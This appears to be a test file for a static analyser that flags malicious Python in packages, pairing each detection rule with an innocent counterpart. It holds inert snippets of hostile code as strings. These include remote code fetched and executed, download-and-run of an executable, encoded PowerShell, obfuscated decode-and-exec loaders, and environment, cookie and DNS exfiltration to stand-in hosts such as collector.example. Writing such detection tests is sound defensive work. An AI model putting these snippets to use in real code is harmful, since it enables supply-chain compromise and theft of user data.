/**
 * Python read as code (analysis/python/flow.ts): each rule with the shape it catches, variants
 * written here (other syntax, aliases, URL building), and the honest twin it must leave alone.
 * Everything is parsed as text; nothing here is run. The malicious shapes are inert strings.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { loadParsers } from '../../shared/parsers/tree-sitter.js';
import { analysePython } from '../../shared/packages/analysis/python/flow.js';
import { hasCompatLetters, protectedCode } from '../../shared/packages/analysis/python/review.js';

const ids = (src: string): string[] => {
  const f = analysePython(src);
  assert.ok(f, 'parsed within its budget');
  return f!.findings.map((x) => x.ruleId);
};

test.before(async () => {
  await loadParsers();
});

// ---- remote code execution through data flow ---------------------------------------------------

test('remote_code_exec: a fetched response reaches exec (urlopen, requests, httpx; aliases)', () => {
  assert.ok(ids("import urllib.request\nexec(urllib.request.urlopen('https://h.example/x').read())\n").includes('remote_code_exec'));
  assert.ok(ids("import requests as rq\nr = rq.get('https://h.example/p')\ncode = r.text\neval(compile(code, 'x', 'exec'))\n").includes('remote_code_exec'));
  assert.ok(ids("from httpx import get as g\nsrc = g('https://h.example/p').content\nexec(src)\n").includes('remote_code_exec'));
  // URL as an integer array or joined characters: still a fetch whose result is executed.
  assert.ok(ids("import urllib.request as u\nexec(u.urlopen(bytes([104,116,116,112,115,58,47,47]).decode()).read())\n").includes('remote_code_exec'));
});

test('download_execute: a streamed download written to a file and started through an aliased system()', () => {
  const src = [
    'import requests, tempfile, os',
    'from os import system as s',
    "url = f'https://{host}/payload.exe'",
    'r = requests.get(url, stream=True)',
    "p = os.path.join(tempfile.gettempdir(), 'u.exe')",
    "with open(p, 'wb') as fh:",
    '    for chunk in r.iter_content(8192):',
    '        fh.write(chunk)',
    's(p)',
  ].join('\n');
  assert.ok(ids(src).includes('download_execute'));
  // Variant: urlretrieve then subprocess.Popen of the path, inside a function.
  assert.ok(ids("import subprocess as sp, urllib.request\ndef go():\n    dst = 'C:/Users/Public/a.exe'\n    urllib.request.urlretrieve('https://h.example/a.exe', dst)\n    sp.Popen([dst])\n").includes('download_execute'));
});

test('honest twin: a downloaded data file that is only read, and an exec of a local version file', () => {
  assert.equal(ids("import requests, json\nr = requests.get('https://api.example.org/v1', stream=True)\nwith open('out.json', 'wb') as f:\n    for c in r.iter_content(1024):\n        f.write(c)\nprint(json.load(open('out.json')))\n"), []);
  assert.equal(ids("import os, subprocess\nabout = {}\nwith open(os.path.join('pkg', '__about__.py')) as fp:\n    exec(fp.read(), about)\nsetup(url='https://github.com/o/p', version=about['__version__'])\n"), []);
  assert.equal(ids("exec(open('pkg/version.py').read())\nimport subprocess\nsetup(url='https://example.org')\n"), []);
});

test('names are per function: a response in one function does not taint a same-named variable in another', () => {
  const src = "import requests, os\ndef a():\n    data = requests.get('https://h.example').content\n    return len(data)\ndef b(path):\n    data = open(path).read()\n    exec(data)\n";
  assert.equal(ids(src), []);
});

// ---- shell commands that fetch remote code -------------------------------------------------------

test('shell_remote_command: curl / PowerShell download through aliases, joins and chr() arrays', () => {
  const f = analysePython("import os\nos.system('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgA')\n")!;
  assert.ok(f.remoteCommand);
  assert.ok(f.findings.some((x) => x.ruleId === 'shell_remote_command'));
  assert.ok(analysePython("import subprocess as sp\nu = ''.join(chr(x) for x in [104,116,116,112,58,47,47,104])\nsp.Popen(['curl', '-s', u])\n")!.remoteCommand);
  assert.ok(analysePython("s = getattr(__import__('os'), 'system')\ns('wget -q http://h.example/x -O /tmp/x')\n")!.remoteCommand);
});

test('honest twin: local build commands are not remote commands', () => {
  for (const src of [
    "import subprocess\nout = subprocess.check_output(['pg_config', '--includedir'])\nsetup(url='https://www.psycopg.org/')\n",
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython', 'x.pyx'])\n",
    "import os\nos.system('make -C src/lib')\n",
  ]) {
    const f = analysePython(src)!;
    assert.not.ok(f.remoteCommand, src);
    assert.equal(f.findings, []);
  }
});

// ---- decoded code --------------------------------------------------------------------------------

test('decoded_code_exec: exec of base64 / zlib / marshal / XOR-decoded data, also through getattr and globals()', () => {
  assert.ok(ids("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n").includes('decoded_code_exec'));
  assert.ok(ids("import zlib as z, base64 as b\npayload = z.decompress(b.b64decode(blob))\ngetattr(__import__('builtins'), 'exec')(payload)\n").includes('decoded_code_exec'));
  assert.ok(ids("import marshal\ncode = marshal.loads(data)\nglobals()['__builtins__'].exec(code)\n").includes('decoded_code_exec') || ids("import marshal\ncode = marshal.loads(data)\nglobals()['exec'](code)\n").includes('decoded_code_exec'));
  assert.ok(ids("key = 42\nsrc = ''.join(chr(ord(c) ^ key) for c in blob)\nexec(src)\n").includes('decoded_code_exec'));
});

test('decoded_code_exec through a lambda decoder (the lambda obfuscators)', () => {
  assert.ok(ids("_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'=Aa'))\n").includes('decoded_code_exec'));
});

test('decoded_code_exec through tuple-unpacked aliases of exec', () => {
  assert.ok(ids('import zlib\n_s, _run, _m = str, exec, map\n_run(zlib.decompress(blob))\n').includes('decoded_code_exec'));
});

test('builtins_renamed: exec renamed with other builtins in one assignment; py2 compat aliases and a single exec alias are not', () => {
  assert.ok(ids('_a, B, _c, D = exec, str, tuple, ord\n').includes('builtins_renamed'));
  assert.ok(ids('x1, x2, x3 = map, __import__, chr\n').includes('builtins_renamed'));
  assert.equal(ids('input, range = raw_input, xrange\n'), []);
  assert.equal(ids("import builtins\nexec_ = getattr(builtins, 'exec')\n"), []);
  assert.equal(ids('a, b, c = str, int, float\n'), []);
});

test('a second stage kept as code in a string literal (decrypt and exec) is a recognised fact; a plain code template is not', () => {
  const stage = ['pl = """', 'from fernet import Fernet', "exec(Fernet(b'k').decrypt(b'gAAAAABk'))", '"""', "open('x.py', 'w').write(pl)", ''].join('\n');
  assert.ok(analysePython(stage)!.codeLiteralDecodeExec);
  const template = ['TEMPLATE = """', 'def main(src, path):', "    exec(compile(src, path, 'exec'))", '"""', ''].join('\n');
  assert.not.ok(analysePython(template)!.codeLiteralDecodeExec);
});

test('honest twin: decoding data that is never executed', () => {
  assert.equal(ids("import base64, json\ncfg = json.loads(base64.b64decode(os.environ['CFG']))\nprint(cfg)\n"), []);
});

// ---- NFKC identifiers ------------------------------------------------------------------------------

test('nfkc_identifier: __𝘪𝗺𝙥𝗼𝗿𝘵__ is __import__ for Python, and is resolved as such', () => {
  const f = analysePython("__𝘪𝗺𝙥𝗼𝗿𝘵__('builtins').exec(__𝘪𝗺𝙥𝗼𝗿𝘵__('base64').b64decode(x))\n")!;
  assert.ok(f.nfkcIdentifiers > 0);
  assert.ok(f.findings.some((x) => x.ruleId === 'nfkc_identifier'));
  assert.ok(f.findings.some((x) => x.ruleId === 'decoded_code_exec'));
  assert.ok(hasCompatLetters(Buffer.from('__𝘪𝗺𝙥𝗼𝗿𝘵__', 'utf8')));
  assert.ok(hasCompatLetters(Buffer.from('ｅｘｅｃ', 'utf8')));
});

test('honest twin: non-ASCII identifiers that NFKC leaves alone (é, ü) and Unicode in strings', () => {
  const f = analysePython("café = 'ü'\nprint('𝘩𝘦𝘭𝘭𝘰', café)\n")!;
  assert.equal(f.nfkcIdentifiers, 0);
  assert.equal(f.findings, []);
  assert.not.ok(hasCompatLetters(Buffer.from("café = 'ü'", 'utf8')));
});

// ---- recon sent out ---------------------------------------------------------------------------------

test('recon_exfil_flow: user, host and the whole environment reach a send (through a dict, json and Request)', () => {
  const src = [
    'import os, json, getpass, socket',
    'from urllib import request',
    "env = ''",
    'for a in os.environ:',
    "    env += a + '=' + os.getenv(a)",
    "data = json.dumps({'u': getpass.getuser(), 'h': socket.gethostname(), 'e': env})",
    "r = request.Request('https://collector.example/c', data=data.encode())",
    'request.urlopen(r)',
  ].join('\n');
  const f = analysePython(src)!;
  assert.ok(f.reconSent);
  const hit = f.findings.find((x) => x.ruleId === 'recon_exfil_flow');
  assert.ok(hit);
  assert.match(hit!.evidence, /collector\.example/);
  // Variant: a function that returns the host name, posted with requests.
  assert.ok(analysePython("import platform, requests\ndef info():\n    return {'n': platform.node()}\nrequests.post('http://h.example', json=info())\n")!.reconSent);
});

test('recon_exfil_flow: the public IP from an IP-echo service and browser cookies posted to a webhook in an f-string', () => {
  assert.ok(analysePython("import requests\nip = requests.get('https://api.ipify.org').text\nrequests.post(HOOK, data={'content': f'IP: {ip}'})\n")!.reconSent);
  assert.ok(analysePython("import browser_cookie3, requests\ncj = browser_cookie3.chrome(domain_name='example.com')\nrequests.post(HOOK, json={'c': [c.value for c in cj]})\n")!.reconSent);
  // A cookie library used locally (a session for its own requests) sends no cookie store out by itself.
  assert.not.ok(analysePython("import browser_cookie3\ncj = browser_cookie3.firefox()\nprint(len(cj))\n")!.reconSent);
});

test('download_execute: a literal script that fetches and runs code, written to a temp file and started with an aliased system()', () => {
  const src = "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\nfrom os import system as _s\nt = _f(delete=False)\nt.write(b\"from urllib.request import urlopen as u;exec(u('https://h.example/raw').read())\")\nt.close()\n_s(f'start {_e} {t.name}')\n";
  assert.ok(ids(src).includes('download_execute'));
  // Honest twin: a temp file with a config literal, opened in an editor.
  assert.equal(ids("from tempfile import NamedTemporaryFile\nimport os\nt = NamedTemporaryFile(delete=False, suffix='.ini')\nt.write(b'[main]\\nurl = https://example.org\\n')\nt.close()\nos.system(f'editor {t.name}')\n"), []);
});

test('honest twin: the host name used locally, a token read from one variable and sent to an API', () => {
  assert.not.ok(analysePython("import getpass, platform, requests\nlabel = '%s@%s' % (getpass.getuser(), platform.node())\nprint(label)\nrequests.get('https://api.example.org')\n")!.reconSent);
  assert.not.ok(analysePython("import os, requests\nrequests.post('https://api.example.org', headers={'Authorization': os.environ.get('API_TOKEN')})\n")!.reconSent);
});

// ---- cmdclass install overrides ---------------------------------------------------------------------

test('setup_install_hook_exec: an install override that starts a process; a build_ext override that runs cmake is not one', () => {
  const hook = "from setuptools import setup\nfrom setuptools.command.install import install\nimport subprocess\nclass Post(install):\n    def run(self):\n        install.run(self)\n        subprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\nsetup(name='x', cmdclass={'install': Post})\n";
  assert.ok(ids(hook).includes('setup_install_hook_exec'));
  const develop = "from setuptools.command.develop import develop as _d\nimport os\nclass D(_d):\n    def run(self):\n        os.system('echo hi')\n        _d.run(self)\n";
  assert.ok(ids(develop).includes('setup_install_hook_exec'));
  const build = "from setuptools.command.build_ext import build_ext\nimport subprocess\nclass B(build_ext):\n    def run(self):\n        subprocess.check_call(['cmake', '..'])\n";
  assert.equal(ids(build), []);
});

// ---- DNS recon ----------------------------------------------------------------------------------------

test('recon_exfil_flow through DNS: a name built from the user and host is looked up; resolving the own host name is not', () => {
  assert.ok(analysePython("import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.x.example')\n")!.reconSent);
  assert.ok(analysePython("import dns.resolver, os\nu = os.getlogin()\ndns.resolver.resolve(u + '.t.example', 'A')\n")!.reconSent);
  // Variant: the name is built in steps (base32 of the user and host, then joined to a domain).
  assert.ok(analysePython("import socket, os, base64\nu = base64.b32encode(os.getlogin().encode()).decode()\nh = socket.gethostname()\nd = u + '.' + h + '.t.example.net'\nsocket.gethostbyname(d)\n")!.reconSent);
  assert.not.ok(analysePython("import socket\naddrs = socket.getaddrinfo(socket.gethostname(), 0)\n")!.reconSent);
  assert.not.ok(analysePython("import socket\nhost = 'db.internal.example'\nsocket.gethostbyname(host)\n")!.reconSent);
});

// ---- interpreters started with inline code at module level ---------------------------------------------

test('interpreter_inline_spawn: module-level python -c (list, sys.executable, string); inside a function it is not reported', () => {
  assert.ok(ids("import subprocess\np = subprocess.Popen(['python3', '-c', 'import helper'], close_fds=True)\n").includes('interpreter_inline_spawn'));
  assert.ok(ids("import subprocess as s, sys\ns.Popen([sys.executable, '-c', 'import second_stage'])\n").includes('interpreter_inline_spawn'));
  assert.ok(ids("import os\nos.system('pythonw -c \"import x\"')\n").includes('interpreter_inline_spawn'));
  assert.equal(ids("import subprocess, sys\ndef include_dir():\n    return subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n"), []);
  assert.equal(ids("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', '--version'])\n"), []);
});

// ---- PyArmor-protected code ------------------------------------------------------------------------------

test('protected_code: a PyArmor blob is reported; PyArmor documentation naming the call is not', () => {
  const blob = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52\\x00\\x00\\x03')\n";
  const f = protectedCode('p/__init__.py', blob);
  assert.ok(f);
  assert.is(f!.line, 3);
  assert.ok(protectedCode('p/m.py', "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n"));
  assert.is(protectedCode('pyarmor/docs.py', "HELP = 'a protected script calls __pyarmor__(__name__, __file__, <blob>) at import'\n"), null);
});

test.run();
